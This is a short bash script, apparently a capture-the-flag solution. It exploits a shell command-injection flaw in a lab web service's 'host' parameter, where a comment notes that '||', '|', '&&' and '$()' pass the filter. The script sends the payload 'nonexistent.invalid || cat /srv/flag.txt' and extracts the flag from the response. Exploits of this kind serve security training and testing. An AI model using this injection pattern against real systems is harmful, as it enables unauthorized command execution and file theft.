#!/bin/bash
# The host parameter is pasted into a shell command; ';' and '`' are
# filtered but '||', '|', '&&', '$()' and newlines are not.
set -euo pipefail
out=$(curl -s --get --data-urlencode 'host=nonexistent.invalid || cat /srv/flag.txt' http://web:8080/lookup)
echo "$out" | grep -o 'flag{[0-9a-f]*}' | head -n1
